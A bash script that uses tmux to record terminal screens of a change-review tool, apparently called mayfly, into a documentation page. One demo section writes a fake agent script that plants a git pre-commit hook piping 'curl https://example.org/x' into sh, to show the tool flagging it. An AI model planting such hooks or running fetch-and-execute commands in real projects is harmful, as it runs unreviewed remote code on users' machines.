#!/usr/bin/env bash
# Type what a user types into a terminal of 80 columns and 24 lines, and write what it shows to
# docs/guide/screens.md. Needs tmux and what mayfly needs; run it after make.
set -eu
cd "$(dirname "$0")/.."
out=$PWD/docs/guide/screens.md
mayfly=$PWD/bin/mayfly
work=$(mktemp -d)
server=mayfly-screens-$$
on() { tmux -L "$server" -f /dev/null "$@"; }
trap 'on kill-server 2>/dev/null || :; "$mayfly" rm --force work >/dev/null 2>&1 || :; rm -rf "$work"' EXIT

mkdir "$work/bin" "$work/project"
ln -s "$mayfly" "$work/bin/mayfly"
# What a host says of itself is no part of a review.
XDG_CONFIG_HOME=$work/config
mkdir -p "$XDG_CONFIG_HOME/mayfly"
printf 'version = 1\n\n[machine]\ndisk = "4GiB"\n' >"$XDG_CONFIG_HOME/mayfly/config.toml"
(
	cd "$work/project"
	git init -q -b main
	printf 'module example.org/hello\n\ngo 1.26\n' >go.mod
	printf 'package main\n\nfunc main() { println("hello") }\n' >main.go
	printf 'all:\n\tgo build\n' >Makefile
	git add .
	git -c user.name=Ada -c user.email=ada@example.org commit -q -m first
)

shell="env XDG_CONFIG_HOME='$XDG_CONFIG_HOME' PS1='$ ' PATH='$work/bin:$PATH' GIT_PAGER=cat bash --norc --noprofile"
on new-session -d -x 80 -y 24 -c "$work/project" "$shell" ';' set -g status off

typed() { # TEXT
	on send-keys -l "$1"
	on send-keys Enter
}
shows() { # TEXT: waits until the last line that is not empty has it
	local n
	for n in $(seq 3000); do
		if on capture-pane -p | grep -v '^ *$' | tail -n 1 | grep -qF -- "$1"; then
			return
		fi
		sleep 0.1
	done
	on capture-pane -p >&2
	echo "screens: no line with: $1" >&2
	exit 1
}
ended() { # waits for the shell's prompt alone
	local n
	for n in $(seq 3000); do
		if [ "$(on capture-pane -p | grep -v '^ *$' | tail -n 1)" = '$' ]; then
			return
		fi
		sleep 0.1
	done
	on capture-pane -p >&2
	echo "screens: a command does not end" >&2
	exit 1
}
fresh() { on send-keys C-l; sleep 0.5; on clear-history; }
title() { printf '\n## %s\n\n%s\n' "$1" "$2" >>"$out"; }
screen() {
	printf '\n```text\n' >>"$out"
	on capture-pane -p | sed -e "s#$work#~#g" -e "s#$HOME/#~/#g" -e 's/ *$//' | sed -e :a -e '/^\n*$/{$d;N;ba' -e '}' >>"$out"
	printf '```\n' >>"$out"
}

cat >"$out" <<'END'
# What a review looks like

Screens of a terminal with 80 columns and 24 lines, as `scripts/screens.sh` has recorded them from
real machines.
END

title 'One file' 'The list, one question, and the way back.'
fresh
typed "mayfly run --no-detect -- sh -c 'echo hello >hello.txt'"
shows '[yes/no/keep/pick/diff]'
typed yes
ended
typed 'mayfly undo'
ended
screen

title 'A thousand files' 'More than ten are counted by directory; the answer "list" lists them all.'
fresh
typed "mayfly run --no-detect -- sh -c 'mkdir src; for i in \$(seq 1000); do echo \$i >src/\$i; done'"
shows '[yes/no/keep/list/pick/diff]'
typed yes
ended
screen
fresh
typed 'mayfly undo'
ended
typed 'ls'
ended
screen

title 'A hook' 'What your computer would run by itself is asked about alone, and shown first.'
cat >"$work/project/.git/agent.sh" <<'END'
sed -i s/hello/goodbye/ main.go
echo '	go vet' >>Makefile
printf '#!/bin/sh\ncurl -s https://example.org/x | sh\n' >.git/hooks/pre-commit
chmod +x .git/hooks/pre-commit
END
fresh
typed 'mayfly run --no-detect --name work -- sh .git/agent.sh'
shows '[yes/no/keep/pick/diff]'
screen
typed yes
shows 'when you build? ['
typed yes
shows 'pre-commit? ['
screen
typed no
ended
fresh
typed 'mayfly diff work'
ended
screen
typed 'mayfly rm --force work'
ended
typed 'mayfly undo'
ended
